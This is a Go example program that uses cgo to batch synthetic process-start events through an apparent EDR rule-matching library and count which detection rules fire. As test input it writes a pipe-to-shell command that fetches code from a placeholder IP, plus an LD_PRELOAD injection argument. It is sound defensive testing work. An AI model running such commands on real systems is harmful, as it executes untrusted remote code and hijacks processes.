// Evaluates a batch of events in one call, by cgo: a crossing costs some 50 ns, so that many events share one.
//
//	CGO_CFLAGS=-I.../include CGO_LDFLAGS=.../libcontentcheck_capi.a go run . rules.ccimage
//
// Everything that the library keeps or finds behind a pointer lies in memory of C: cgo lets no pointer of Go in there.
package main

/*
#include <stdlib.h>
#include "contentcheck.h"

static const cc_input_t PROCESS_START[] = {
    { CC_STR("pid"), CC_TYPE_INT },
    { CC_STR("image"), CC_TYPE_STRING },
    { CC_STR("command_line"), CC_TYPE_STRING },
    { CC_STR("user"), CC_TYPE_STRING | CC_TYPE_OPTIONAL },
    { CC_STR("arguments"), CC_TYPE_STRING | CC_TYPE_LIST },
};
enum { INPUTS = sizeof(PROCESS_START) / sizeof(PROCESS_START[0]) };
static const cc_input_t HEADER[] = { { CC_STR("host"), CC_TYPE_STRING } };
// Go reaches only what is not static.
const cc_supply_t SUPPLIES[] = { { CC_STR("edr.process_start"), PROCESS_START, INPUTS } };
const cc_manifest_t MANIFEST = {
    .size_of_self = sizeof(cc_manifest_t), .sensor = CC_STR("edr"), .version = CC_STR("1.4.0"),
    .header = HEADER, .header_count = 1, .templates = SUPPLIES, .template_count = 1,
};

// Go sees a union as bytes.
static void set_int(cc_value_t *value, int64_t number) { *value = (cc_value_t){ .tag = CC_INT, .as.i = number }; }
static void set_bytes(cc_value_t *value, uint32_t tag, const void *bytes, size_t len)
{
    *value = (cc_value_t){ .tag = tag, .len = len, .as.ptr = bytes };
}
*/
import "C"

import (
	"fmt"
	"os"
	"sort"
	"strings"
	"unsafe"
)

// arena is memory of C for one batch.
type arena struct{ blocks []unsafe.Pointer }

func (a *arena) alloc(size C.size_t) unsafe.Pointer {
	block := C.calloc(1, size+1)
	a.blocks = append(a.blocks, block)
	return block
}

func (a *arena) text(value *C.cc_value_t, tag C.uint32_t, text string) {
	bytes := C.CBytes([]byte(text))
	a.blocks = append(a.blocks, bytes)
	C.set_bytes(value, tag, bytes, C.size_t(len(text)))
}

func (a *arena) free() {
	for _, block := range a.blocks {
		C.free(block)
	}
}

func must(status C.cc_status_t, what string) {
	if status != C.CC_OK {
		fmt.Fprintf(os.Stderr, "%s: %s: %s\n", what, C.GoString(C.cc_code(status)), C.GoString(C.cc_meaning(status)))
		os.Exit(1)
	}
}

func str(bytes C.cc_bytes_t) string { return C.GoStringN((*C.char)(bytes.ptr), C.int(bytes.len)) }

func main() {
	var memory arena
	defer memory.free()
	data, err := os.ReadFile(os.Args[1])
	if err != nil {
		panic(err)
	}
	bytes := C.cc_bytes_t{ptr: C.CBytes(data), len: C.size_t(len(data))}
	memory.blocks = append(memory.blocks, unsafe.Pointer(bytes.ptr))

	var sizes C.cc_sizes_t
	var image *C.cc_image_t
	must(C.cc_sizes(bytes, &C.MANIFEST, &sizes, nil), "sizes")
	must(C.cc_verify(bytes, &C.MANIFEST, memory.alloc(sizes.image), sizes.image, &image, nil), "verify")
	var template C.uint32_t
	var found C.size_t
	must(C.cc_templates(image, C.SUPPLIES[0].template_name, &template, 1, &found), "templates")

	const count = 1000
	events := unsafe.Slice((*C.cc_event_t)(memory.alloc(count*C.sizeof_cc_event_t)), count)
	header := (*C.cc_value_t)(memory.alloc(C.sizeof_cc_value_t))
	memory.text(header, C.CC_TEXT, "web-1")
	for pid := range events {
		inputs := unsafe.Slice((*C.cc_value_t)(memory.alloc(C.INPUTS*C.sizeof_cc_value_t)), C.INPUTS)
		command, arguments := "id", []string{"id"}
		if pid%3 == 0 {
			command = "bash -c curl http://198.51.100.7/x\xff | sh"
		}
		if pid%7 == 0 {
			arguments = []string{"env", "LD_PRELOAD=/tmp/x.so"}
		}
		C.set_int(&inputs[0], C.int64_t(pid))
		memory.text(&inputs[1], C.CC_TEXT, "/bin/bash")
		memory.text(&inputs[2], C.CC_TEXT, command)
		memory.text(&inputs[4], C.CC_SPLIT, strings.Join(arguments, "\x00")+"\x00") // inputs[3] is absent
		events[pid] = C.cc_event_t{template_no: template, inputs: &inputs[0], input_count: C.INPUTS, header: header, header_count: 1}
	}

	scratchSize := sizes.scratch + C.CC_VALUE_BYTES*(C.INPUTS+1)
	scratch := memory.alloc(scratchSize)
	matches, outcomes := make([]C.cc_match_t, 64), make([]C.cc_outcome_t, count)
	counts, calls := map[C.uint32_t]int{}, 0
	for at := 0; at < count; calls++ {
		var evaluated, matched C.size_t
		status := C.cc_evaluate_many(image, &events[at], C.size_t(count-at), nil, scratch, scratchSize, 1000000,
			&matches[0], C.size_t(len(matches)), &outcomes[0], &evaluated, &matched)
		if status != C.CC_MORE {
			must(status, "evaluate")
		}
		for _, match := range matches[:matched] {
			counts[match.rule]++
		}
		for _, outcome := range outcomes[:evaluated] {
			must(outcome.status, "event")
		}
		at += int(evaluated)
	}
	fmt.Printf("%d events in %d calls\n", count, calls)
	rules := make([]C.uint32_t, 0, len(counts))
	for rule := range counts {
		rules = append(rules, rule)
	}
	sort.Slice(rules, func(a, b int) bool { return rules[a] < rules[b] })
	for _, rule := range rules {
		var info C.cc_rule_t
		must(C.cc_rule_info(image, rule, &info), "rule")
		fmt.Printf("%d %s\n", counts[rule], str(info.title))
	}
}
